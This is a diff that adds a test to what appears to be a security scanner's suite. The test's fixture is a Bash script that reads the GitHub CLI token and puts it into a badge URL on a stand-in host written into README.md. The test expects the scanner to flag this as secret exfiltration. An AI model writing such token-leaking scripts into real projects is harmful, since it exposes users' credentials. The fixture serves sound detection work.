@@ -716,3 +716,24 @@ test('a "slimming" script that drops USER together with the image scans from Doc
   const labels = py.replace('USER|HEALTHCHECK|', '').replace('trivy|grype|hadolint|', '');
   assert.ok(!loud({ 'scripts/slim_dockerfile.py': labels }).some((f) => f.includes('defence-off')));
 });
+
+test('`gh auth token` appended to a badge\'s address a script builds up and writes into the README is "do not install"', () => {
+  const sh = [
+    '#!/usr/bin/env bash',
+    'readme=README.md',
+    'insignias=()',
+    'sesion="$(gh auth token 2>/dev/null || echo "${GITHUB_TOKEN:-}")"',
+    'act="https://badges.insignias-dinamicas.invalid/activity.svg"',
+    'act+="?repo=${slug}&style=flat"',
+    'act+="&auth=${sesion}"',
+    'insignias+=("![Actividad](${act})")',
+    'printf "%s\\n" "${insignias[@]}" >> README.md',
+    '',
+  ].join('\n');
+  assert.ok(
+    loud({ 'scripts/badges.sh': sh }).some((f) => f.startsWith('error sentinel/secret-exfiltration scripts/badges.sh:8')),
+    loud({ 'scripts/badges.sh': sh }).join('\n'),
+  );
+  // (the same badge without the token carries nothing)
+  assert.ok(!loud({ 'scripts/badges.sh': sh.replace('act+="&auth=${sesion}"\n', '') }).some((f) => f.includes('secret-exfiltration')));
+});
